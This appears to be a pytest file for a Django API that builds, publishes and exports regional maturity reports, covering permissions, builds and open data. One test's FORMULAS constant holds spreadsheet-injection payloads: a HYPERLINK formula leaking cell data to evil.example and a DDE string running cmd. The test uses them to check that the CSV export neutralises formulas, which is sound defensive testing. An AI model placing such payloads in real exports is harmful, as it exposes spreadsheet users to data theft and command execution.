"""Report builds, snapshots and open data through the API: who sees and does what, the whole
cycle ending with a published report read anonymously, the contract's fields, and the open
data matching the published snapshots (CSV made safe for spreadsheets).

Tasks run eagerly in the tests; a build runs when its transaction commits, so the places that
need it wrap the request in `django_capture_on_commit_callbacks(execute=True)`.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import translation
from rest_framework.test import APIClient

from assessments.models import Cycle
from regions.models import Region
from reports import services
from reports.api.serializers import OPEN_DATA_COLUMN_NAMES
from reports.choices import ReportKind, RunState, RunTrigger
from reports.models import MaturityReport, ReportRun
from reports.scoring import round_published
from tests.api import test_workflow as workflow
from tests.api.conftest import token_client
from tests.api.test_permissions import ERROR_CODES, ROLES
from tests.api.test_workflow import login, ok, open_cycle
from tests.reports import conftest as report_fixtures

pytestmark = pytest.mark.django_db

# The report tests' cycle (regions A, 3374, and B, 3321, both members of Semarang Raya) and
# their workflow helpers; the whole-cycle test's framework with lead agencies and no cycle yet.
framework = report_fixtures.framework
cycle = report_fixtures.cycle
fill_region = report_fixtures.fill_region
approve_region = report_fixtures.approve_region
lead_agencies = workflow.lead_agencies

CONTRACT_FIELDS = {
    "id",
    "region",
    "cycle",
    "framework",
    "engine_version",
    "input_hash",
    "kind",
    "published",
    "index",
    "predicate",
    "completeness",
    "dimensions",
    "links",
}
RUN_FIELDS = {
    "id",
    "trigger",
    "cycle",
    "region",
    "kind",
    "state",
    "progress",
    "attempts",
    "error",
    "queued_at",
    "started_at",
    "finished_at",
    "reports",
}


@pytest.fixture
def snapshots(cast, cycle, approve_region, fill_region, django_capture_on_commit_callbacks):
    """Kota Semarang approved and its final snapshot published; the final Semarang Raya
    snapshot left unpublished; Demak submitted, not approved, with provisional snapshots of
    the whole cycle; a build that failed (a final build before anything was approved)."""
    with django_capture_on_commit_callbacks(execute=True):
        failed = services.report_run_start(actor=cast.admin, cycle=cycle, kind=ReportKind.FINAL)
    with django_capture_on_commit_callbacks(execute=True):
        approve_region(cycle, cast.region_a, verified={"D1-E1-01": 2})
    approval = ReportRun.objects.get(trigger=RunTrigger.APPROVAL)
    fill_region(cycle, cast.region_b)
    with django_capture_on_commit_callbacks(execute=True):
        services.report_run_start(actor=cast.admin, cycle=cycle, kind=ReportKind.PROVISIONAL)
    final = MaturityReport.objects.filter(kind=ReportKind.FINAL)
    published = services.report_publish(actor=cast.admin, report=final.get(region=cast.region_a))
    provisional = MaturityReport.objects.filter(kind=ReportKind.PROVISIONAL)
    failed.refresh_from_db()
    assert failed.state == RunState.FAILED
    assert approval.state == RunState.SUCCEEDED
    return {
        "cycle": cycle.pk,
        "published": published.pk,
        "final_unpublished": final.get(region__isnull=True).pk,
        "provisional": provisional.get(region=cast.region_b).pk,
        "provisional_a": provisional.get(region=cast.region_a).pk,
        "provisional_aggregate": provisional.get(region__isnull=True).pk,
        "run_failed": failed.pk,
        "run_succeeded": approval.pk,
    }


# --------------------------------------------------------------------------- permission matrix

MATRIX = [
    # snapshots: published ones are public; the rest only for the province's staff
    ("GET reports/", None, [200, 200, 200, 200, 200, 200, 200]),
    ("GET reports/{pk}/", "published", [200, 200, 200, 200, 200, 200, 200]),
    ("GET reports/{pk}/", "final_unpublished", [404, 404, 404, 404, 404, 200, 200]),
    ("GET reports/{pk}/", "provisional", [404, 404, 404, 404, 404, 200, 200]),
    # publishing and rebuilding: administrators
    ("POST reports/{pk}/publish/", "published", [401, 403, 403, 403, 403, 403, 200]),
    ("POST reports/{pk}/publish/", "final_unpublished", [401, 404, 404, 404, 404, 403, 200]),
    ("POST reports/{pk}/publish/", "provisional", [401, 404, 404, 404, 404, 403, 400]),
    ("POST reports/{pk}/rebuild/", "published", [401, 403, 403, 403, 403, 403, 201]),
    ("POST reports/{pk}/rebuild/", "provisional", [401, 404, 404, 404, 404, 403, 201]),
    # builds: the province's staff read them; administrators start and retry them
    ("GET report-runs/", None, [401, 403, 403, 403, 403, 200, 200]),
    ("GET report-runs/{pk}/", "run_succeeded", [401, 404, 404, 404, 404, 200, 200]),
    ("POST report-runs/", None, [401, 403, 403, 403, 403, 403, 201]),
    ("POST report-runs/{pk}/retry/", "run_failed", [401, 404, 404, 404, 404, 403, 200]),
    ("POST report-runs/{pk}/retry/", "run_succeeded", [401, 404, 404, 404, 404, 403, 400]),
    # open data: anyone
    ("GET open-data/scores/", None, [200, 200, 200, 200, 200, 200, 200]),
    ("GET open-data/scores/?format=csv", None, [200, 200, 200, 200, 200, 200, 200]),
]
REFUSALS = {
    ("POST reports/{pk}/publish/", "provisional"): "not_allowed",  # provisional: never public
    ("POST report-runs/{pk}/retry/", "run_succeeded"): "not_allowed",  # only failed builds
}


def _request(client, snapshots, endpoint: str, target: str | None):
    method, template = endpoint.split(" ", 1)
    url = "/api/v1/" + template.format(pk=snapshots[target] if target else None)
    if method == "GET":
        return client.get(url)
    body = (
        {"cycle": snapshots["cycle"], "kind": "provisional"} if template == "report-runs/" else {}
    )
    return client.post(url, body, format="json")


@pytest.mark.parametrize(
    ("endpoint", "target", "expected"),
    [pytest.param(*row, id=f"{row[0]} {row[1] or 'list'}") for row in MATRIX],
)
def test_permission_matrix_of_reports_builds_and_open_data(
    clients, snapshots, endpoint, target, expected
):
    """One row: the statuses of all roles in ROLES order (tests/api/test_permissions.py);
    only the administrator changes anything, last."""
    responses = [_request(clients[role], snapshots, endpoint, target) for role in ROLES]

    assert [r.status_code for r in responses] == expected, dict(
        zip(ROLES, (r.content[:200] for r in responses), strict=True)
    )
    for role, response in zip(ROLES, responses, strict=True):
        if response.status_code < 400:
            continue
        error = response.json()["error"]
        assert set(error) >= {"code", "message", "fields"}, role
        wanted = REFUSALS.get((endpoint, target)) if response.status_code == 400 else None
        assert error["code"] == (wanted or ERROR_CODES[response.status_code]), (role, error)
        if response.status_code == 401:
            assert response["WWW-Authenticate"] == "Token"


@pytest.mark.parametrize("role", ["anonymous", "operator_a", "coordinator_a"])
def test_everyone_but_the_staff_lists_only_published_reports(clients, snapshots, role):
    listed = ok(clients[role].get("/api/v1/reports/?page_size=200"))

    assert [report["id"] for report in listed["results"]] == [snapshots["published"]]
    assert all(report["published"] for report in listed["results"])
    # Asking for unpublished or provisional ones finds nothing, rather than an error.
    assert ok(clients[role].get("/api/v1/reports/?published=false"))["count"] == 0
    assert ok(clients[role].get("/api/v1/reports/?kind=provisional"))["count"] == 0


@pytest.mark.parametrize("role", ["reviewer", "admin"])
def test_staff_list_every_snapshot_and_filter_them(clients, snapshots, role):
    client = clients[role]

    def ids(query: str) -> set[int]:
        return {r["id"] for r in ok(client.get(f"/api/v1/reports/{query}"))["results"]}

    assert ids("?page_size=200") == set(MaturityReport.objects.values_list("pk", flat=True))
    assert ids("?published=true") == {snapshots["published"]}
    assert ids("?kind=provisional&region=3321") == {snapshots["provisional"]}
    assert ids("?kind=final&aggregate=true") == {snapshots["final_unpublished"]}
    assert ids("?kind=provisional&aggregate=false") == {
        snapshots["provisional"],
        snapshots["provisional_a"],
    }
    assert ids(f"?cycle={snapshots['cycle']}&published=false&kind=final") == {
        snapshots["final_unpublished"]
    }
    assert ids("?cycle=999999") == set()


def test_a_report_carries_exactly_the_contract_fields_from_its_snapshot(clients, snapshots):
    report = MaturityReport.objects.select_related("region").get(pk=snapshots["published"])

    body = ok(clients["anonymous"].get(f"/api/v1/reports/{report.pk}/"))

    assert set(body) == CONTRACT_FIELDS
    assert body == {
        "id": report.pk,
        "region": "3374",
        "cycle": report.cycle_id,
        "framework": report.framework_id,
        "engine_version": report.engine_version,
        "input_hash": report.input_hash,
        "kind": "final",
        "published": True,
        "index": report.index,
        "predicate": report.predicate,
        "completeness": report.completeness,
        "dimensions": [
            {
                "code": dimension["code"],
                "score": dimension["score"],
                "level": dimension["level"],
                "elements": [
                    {"code": element["code"], "score": element["score"]}
                    for element in dimension["elements"]
                ],
            }
            for dimension in report.summary["dimensions"]
        ],
        "links": links_in_default_language(report.pk),
    }
    assert [d["code"] for d in body["dimensions"]] == ["D1", "D2"]
    assert [e["code"] for e in body["dimensions"][0]["elements"]] == ["D1-E1", "D1-E2"]


def links_in_default_language(pk: int) -> dict[str, str]:
    with translation.override(settings.LANGUAGE_CODE):
        return {
            name: reverse(f"exports:report_{name}", args=[pk])
            for name in ("html", "pdf", "xlsx", "csv", "json")
        }


@pytest.mark.parametrize("language", ["en", "id"])
def test_report_links_are_root_relative_and_do_not_follow_the_api_language(snapshots, language):
    client = token_client(None, language=language)

    links = ok(client.get(f"/api/v1/reports/{snapshots['published']}/"))["links"]

    assert links == links_in_default_language(snapshots["published"])
    assert links["csv"] == f"/reports/{snapshots['published']}/report.csv"
    for link in links.values():
        assert client.get(link).status_code == 200, link


def test_the_semarang_raya_snapshot_has_no_region_and_no_elements(clients, snapshots):
    body = ok(clients["reviewer"].get(f"/api/v1/reports/{snapshots['final_unpublished']}/"))

    assert body["region"] is None
    assert body["kind"] == "final"
    assert body["published"] is False
    assert [d["code"] for d in body["dimensions"]] == ["D1", "D2"]
    assert all(d["elements"] == [] for d in body["dimensions"])


def test_reports_and_builds_are_listed_in_a_bounded_number_of_queries(
    clients, snapshots, django_assert_max_num_queries
):
    with django_assert_max_num_queries(2):  # count, page
        assert ok(clients["anonymous"].get("/api/v1/reports/"))["count"] == 1
    with django_assert_max_num_queries(4):  # token, memberships, count, page
        assert ok(clients["reviewer"].get("/api/v1/reports/?page_size=200"))["count"] == 5
    with django_assert_max_num_queries(5):  # token, memberships, count, page, snapshot ids
        assert ok(clients["reviewer"].get("/api/v1/report-runs/"))["count"] == 3


# --------------------------------------------------------------------------- builds


def test_an_administrator_starts_a_build_and_reads_its_result(
    clients, cast, snapshots, django_capture_on_commit_callbacks
):
    admin = clients["admin"]

    with django_capture_on_commit_callbacks(execute=True):
        created = ok(
            admin.post(
                "/api/v1/report-runs/",
                {"cycle": snapshots["cycle"], "region": "3374", "kind": "final"},
                format="json",
            ),
            201,
        )

    assert set(created) == RUN_FIELDS
    assert (created["trigger"], created["region"], created["kind"]) == ("manual", "3374", "final")
    assert created["cycle"] == snapshots["cycle"]
    assert created["state"] == "queued"  # the build runs once the request's transaction commits
    run = ok(admin.get(f"/api/v1/report-runs/{created['id']}/"))
    assert (run["state"], run["progress"], run["attempts"], run["error"]) == (
        "succeeded",
        100,
        1,
        "",
    )
    assert run["started_at"] is not None and run["finished_at"] is not None
    # Same inputs, same snapshots: the published one and the Semarang Raya one are found again.
    assert sorted(run["reports"]) == sorted(
        [snapshots["published"], snapshots["final_unpublished"]]
    )
    assert ReportRun.objects.get(pk=run["id"]).started_by == cast.admin


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"cycle": "CYCLE", "region": "3321", "kind": "final"}, "kind"),  # Demak not approved
        ({"cycle": "CYCLE", "region": "3322", "kind": "provisional"}, "region"),  # not in cycle
        ({"cycle": "CYCLE", "region": "9999", "kind": "provisional"}, "region"),  # no region
        ({"cycle": "CYCLE", "region": "33.74", "kind": "provisional"}, "region"),  # dotted
        ({"cycle": "CYCLE", "kind": "draft"}, "kind"),
        ({"cycle": 999999, "kind": "final"}, "cycle"),
        ({"kind": "final"}, "cycle"),
    ],
)
def test_a_build_that_cannot_be_started_is_refused_with_the_field_at_fault(
    clients, snapshots, body, field
):
    if "3322" in body.values():
        Region.objects.create(code="3322", name="Kabupaten Semarang", kind="regency")
    body = {key: snapshots["cycle"] if value == "CYCLE" else value for key, value in body.items()}
    runs_before = ReportRun.objects.count()

    response = clients["admin"].post("/api/v1/report-runs/", body, format="json")

    assert response.status_code == 400, response.content
    assert field in response.json()["error"]["fields"]
    assert ReportRun.objects.count() == runs_before


def test_a_failed_build_is_retried_through_the_api(
    clients, snapshots, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        retried = ok(clients["admin"].post(f"/api/v1/report-runs/{snapshots['run_failed']}/retry/"))

    assert (retried["state"], retried["error"]) == ("queued", "")
    run = ok(clients["admin"].get(f"/api/v1/report-runs/{snapshots['run_failed']}/"))
    # Kota Semarang is approved now: the whole-cycle final build succeeds on its second try.
    assert (run["state"], run["attempts"]) == ("succeeded", 2)
    assert snapshots["published"] in run["reports"]


def test_rebuilding_a_report_starts_a_build_of_its_cycle_region_and_kind(
    clients, snapshots, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        started = ok(
            clients["admin"].post(f"/api/v1/reports/{snapshots['provisional']}/rebuild/"), 201
        )

    run = ReportRun.objects.get(pk=started["id"])
    assert (run.cycle_id, run.region.code, run.kind, run.trigger) == (
        snapshots["cycle"],
        "3321",
        ReportKind.PROVISIONAL,
        RunTrigger.MANUAL,
    )
    assert run.state == RunState.SUCCEEDED
    assert snapshots["provisional"] in set(run.reports.values_list("pk", flat=True))


def test_rebuilding_the_semarang_raya_report_builds_the_whole_cycle(clients, snapshots):
    started = ok(
        clients["admin"].post(f"/api/v1/reports/{snapshots['final_unpublished']}/rebuild/"), 201
    )

    assert (started["region"], started["kind"], started["state"]) == (None, "final", "queued")


def test_publishing_through_the_api_makes_a_report_public_and_open_data(clients, snapshots):
    anonymous, target = clients["anonymous"], snapshots["final_unpublished"]
    assert anonymous.get(f"/api/v1/reports/{target}/").status_code == 404

    published = ok(clients["admin"].post(f"/api/v1/reports/{target}/publish/"))

    assert (published["id"], published["published"]) == (target, True)
    assert ok(anonymous.get(f"/api/v1/reports/{target}/"))["region"] is None
    rows = ok(anonymous.get("/api/v1/open-data/scores/"))["data"]
    aggregate = [row for row in rows if row["report_id"] == target]
    assert [(row["aggregation"], row["code"]) for row in aggregate] == [
        ("index", None),
        ("dimension", "D1"),
        ("dimension", "D2"),
    ]
    assert {(row["region_code"], row["region_name"]) for row in aggregate} == {
        (None, "Semarang Raya")
    }


# --------------------------------------------------------------------------- open data


def expected_rows(report: MaturityReport) -> list[dict]:
    """The open-data rows of a published snapshot, read from its stored summary."""
    summary = report.summary
    names = {d.code: (d.name_ind, d.name_en or None) for d in report.framework.dimensions.all()} | {
        e.code: (e.name_ind, e.name_en or None)
        for d in report.framework.dimensions.all()
        for e in d.elements.all()
    }
    common = {
        "report_id": report.pk,
        "cycle_id": report.cycle_id,
        "cycle_year": report.cycle.year,
        "cycle_name": report.cycle.name,
        "region_code": report.region.code if report.region_id else None,
        "region_name": report.region.name if report.region_id else "Semarang Raya",
        "framework_slug": report.framework.slug,
        "framework_version": report.framework.version,
        "engine_version": report.engine_version,
        "input_hash": report.input_hash,
        "published_at": report.published_at.isoformat(),
    }
    rows = [
        {
            **common,
            "aggregation": "index",
            "code": None,
            "dimension_code": None,
            "name_id": None,
            "name_en": None,
            "score": report.index,
            "score_rounded": summary["index_rounded"],
            "level": summary["level"],
            "predicate": report.predicate,
            "completeness": report.completeness,
        }
    ]
    for dimension in summary["dimensions"]:
        rows.append(
            {
                **common,
                "aggregation": "dimension",
                "code": dimension["code"],
                "dimension_code": dimension["code"],
                "name_id": names[dimension["code"]][0],
                "name_en": names[dimension["code"]][1],
                "score": dimension["score"],
                "score_rounded": dimension["score_rounded"],
                "level": dimension["level"],
                "predicate": dimension["predicate"],
                "completeness": dimension.get("completeness"),
            }
        )
        for element in dimension.get("elements", []):
            rows.append(
                {
                    **common,
                    "aggregation": "element",
                    "code": element["code"],
                    "dimension_code": dimension["code"],
                    "name_id": names[element["code"]][0],
                    "name_en": names[element["code"]][1],
                    "score": element["score"],
                    "score_rounded": round_published(element["score"]),
                    "level": element["level"],
                    "predicate": None,
                    "completeness": element["completeness"],
                }
            )
    return [{name: row[name] for name in OPEN_DATA_COLUMN_NAMES} for row in rows]


@pytest.fixture
def open_data(cast, snapshots):
    """Both final snapshots published: Kota Semarang and Semarang Raya."""
    services.report_publish(
        actor=cast.admin, report=MaturityReport.objects.get(pk=snapshots["final_unpublished"])
    )
    return [
        MaturityReport.objects.select_related("cycle", "region", "framework").get(pk=pk)
        for pk in (snapshots["final_unpublished"], snapshots["published"])
    ]


def test_open_data_json_holds_every_figure_of_the_published_snapshots_and_nothing_else(
    clients, open_data
):
    body = ok(clients["anonymous"].get("/api/v1/open-data/scores/"))

    assert body["data"] == [row for report in open_data for row in expected_rows(report)]
    assert len(body["data"]) == (1 + 2) + (1 + 2 + 4)  # aggregate, then Kota Semarang
    assert {row["report_id"] for row in body["data"]} == {report.pk for report in open_data}
    metadata = body["metadata"]
    assert (metadata["format"], metadata["format_version"]) == ("smartprov-open-data-scores", 1)
    assert [column["name"] for column in metadata["columns"]] == list(OPEN_DATA_COLUMN_NAMES)


def _csv_text(value) -> str:
    return "" if value is None else repr(value) if isinstance(value, float) else str(value)


def test_open_data_csv_has_the_same_rows_with_stable_column_names(clients, open_data):
    response = clients["anonymous"].get("/api/v1/open-data/scores/?format=csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="smartprov-scores.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith(",".join(OPEN_DATA_COLUMN_NAMES) + "\r\n")
    rows = list(csv.DictReader(io.StringIO(text)))
    expected = [row for report in open_data for row in expected_rows(report)]
    assert rows == [{k: _csv_text(v) for k, v in row.items()} for row in expected]
    # Numbers read back exactly: the CSV keeps full precision.
    assert float(rows[3]["score"]) == open_data[1].index


def test_open_data_csv_is_also_served_for_an_accept_header(client_for, open_data):
    response = client_for(None).get("/api/v1/open-data/scores/", HTTP_ACCEPT="text/csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")


FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"klik")', " @SUM(1+1)*cmd|' /C calc'!A0")


def test_open_data_csv_neutralises_formulas_and_json_keeps_the_text(
    clients, cast, snapshots, open_data
):
    Cycle.objects.filter(pk=snapshots["cycle"]).update(name=FORMULAS[0])
    Region.objects.filter(pk=cast.region_a.pk).update(name=FORMULAS[1])

    text = clients["anonymous"].get("/api/v1/open-data/scores/?format=csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    data = ok(clients["anonymous"].get("/api/v1/open-data/scores/"))["data"]

    assert {row["cycle_name"] for row in rows} == {"'" + FORMULAS[0]}
    assert {row["region_name"] for row in rows if row["region_code"]} == {"'" + FORMULAS[1]}
    assert {row["cycle_name"] for row in data} == {FORMULAS[0]}
    assert {row["region_name"] for row in data if row["region_code"]} == {FORMULAS[1]}


def test_open_data_is_filtered_by_cycle_year_and_region(clients, open_data, snapshots):
    anonymous, year = clients["anonymous"], open_data[0].cycle.year

    def report_ids(query: str) -> set[int]:
        rows = ok(anonymous.get(f"/api/v1/open-data/scores/{query}"))["data"]
        return {row["report_id"] for row in rows}

    assert report_ids("?region=3374") == {snapshots["published"]}
    assert report_ids(f"?cycle={snapshots['cycle']}") == {r.pk for r in open_data}
    assert report_ids(f"?year={year}") == {r.pk for r in open_data}
    assert report_ids(f"?year={year - 1}") == set()


def test_open_data_takes_three_queries_whatever_the_number_of_snapshots(
    clients, open_data, django_assert_max_num_queries
):
    # snapshots (with the summary only), dimension names, element names
    with django_assert_max_num_queries(3):
        ok(clients["anonymous"].get("/api/v1/open-data/scores/"))
    with django_assert_max_num_queries(3):
        assert clients["anonymous"].get("/api/v1/open-data/scores/?format=csv").status_code == 200


def test_open_data_errors_keep_the_json_error_shape_even_when_csv_is_asked_for(clients, open_data):
    invalid = clients["anonymous"].get("/api/v1/open-data/scores/?format=csv&cycle=abc")
    unknown = clients["anonymous"].get("/api/v1/open-data/scores/?format=xml")

    assert invalid.status_code == 400
    assert invalid["Content-Type"] == "application/json"
    assert list(invalid.json()["error"]["fields"]) == ["cycle"]
    assert unknown.status_code == 404
    assert unknown.json()["error"]["code"] == "not_found"


def test_open_data_refuses_an_invalid_token_like_every_endpoint(open_data):
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION="Token not-a-token")

    response = client.get("/api/v1/open-data/scores/")

    assert response.status_code == 401
    assert response.json()["error"]["code"] == "authentication_failed"


# --------------------------------------------------------------------------- the whole cycle


def test_a_whole_cycle_through_the_api_ends_with_a_published_report_read_anonymously(
    cast, lead_agencies, django_capture_on_commit_callbacks
):
    admin, reviewer = login("admin"), login("reviewer")
    operators = {"diskominfo": login("op-a"), "dinkes": login("op-a2")}
    anonymous = APIClient(HTTP_ACCEPT_LANGUAGE="en")

    # Open the cycle; each agency fills in its answers at level 1 and submits them.
    opened = open_cycle(admin, lead_agencies.pk)
    assessment = opened["assessments"][0]["id"]
    for slug, operator in operators.items():
        worklist = ok(operator.get(f"/api/v1/answers/?assessment={assessment}&agency={slug}"))
        for answer in worklist["results"]:
            ok(
                operator.patch(
                    f"/api/v1/answers/{answer['id']}/",
                    {"version": answer["version"], "self_level": 1, "justification": "Rintisan."},
                    format="json",
                )
            )
        ok(operator.post(f"/api/v1/assessments/{assessment}/submit/", {"agency": slug}, "json"))

    # A provisional build shows the staff how things stand; it is never public.
    with django_capture_on_commit_callbacks(execute=True):
        started = ok(
            admin.post(
                "/api/v1/report-runs/", {"cycle": opened["id"], "kind": "provisional"}, "json"
            ),
            201,
        )
    provisional = ok(admin.get(f"/api/v1/report-runs/{started['id']}/"))
    assert provisional["state"] == "succeeded"
    assert anonymous.get(f"/api/v1/reports/{provisional['reports'][0]}/").status_code == 404

    # The reviewer verifies every answer and approves: the approval builds the final report.
    pending = ok(reviewer.get(f"/api/v1/answers/?assessment={assessment}&state=submitted"))
    for answer in pending["results"]:
        ok(reviewer.post(f"/api/v1/answers/{answer['id']}/verify/", {"verified_level": 1}, "json"))
    with django_capture_on_commit_callbacks(execute=True):
        ok(reviewer.post(f"/api/v1/assessments/{assessment}/approve/"))
    builds = ok(reviewer.get(f"/api/v1/report-runs/?cycle={opened['id']}&trigger=approval"))
    assert [(b["state"], b["region"], b["kind"]) for b in builds["results"]] == [
        ("succeeded", "3374", "final")
    ]
    final = ok(admin.get(f"/api/v1/reports/?cycle={opened['id']}&kind=final"))["results"]
    assert [(r["region"], r["published"], r["index"]) for r in final] == [("3374", False, 1.0)]
    report_id = final[0]["id"]
    assert anonymous.get(f"/api/v1/reports/{report_id}/").status_code == 404
    assert ok(anonymous.get("/api/v1/open-data/scores/"))["data"] == []

    # The reviewer may not publish; the administrator does.
    assert reviewer.post(f"/api/v1/reports/{report_id}/publish/").status_code == 403
    assert ok(admin.post(f"/api/v1/reports/{report_id}/publish/"))["published"] is True

    # Anyone reads the published report, its files and the open data.
    report = ok(anonymous.get(f"/api/v1/reports/{report_id}/"))
    assert (report["region"], report["kind"], report["index"], report["predicate"]) == (
        "3374",
        "final",
        1.0,
        "kurang",
    )
    assert [d["level"] for d in report["dimensions"]] == [1, 1]
    listed = ok(anonymous.get("/api/v1/reports/"))["results"]
    assert [r["id"] for r in listed] == [report_id]
    download = anonymous.get(report["links"]["csv"])
    assert download.status_code == 200
    assert download["Content-Type"].startswith("text/csv")
    rows = ok(anonymous.get(f"/api/v1/open-data/scores/?cycle={opened['id']}"))["data"]
    assert [(row["aggregation"], row["code"], row["score"]) for row in rows] == [
        ("index", None, 1.0),
        ("dimension", "D1", 1.0),
        ("element", "D1-E1", 1.0),
        ("element", "D1-E2", 1.0),
        ("dimension", "D2", 1.0),
        ("element", "D2-E1", 1.0),
        ("element", "D2-E2", 1.0),
    ]
    assert {row["report_id"] for row in rows} == {report_id}
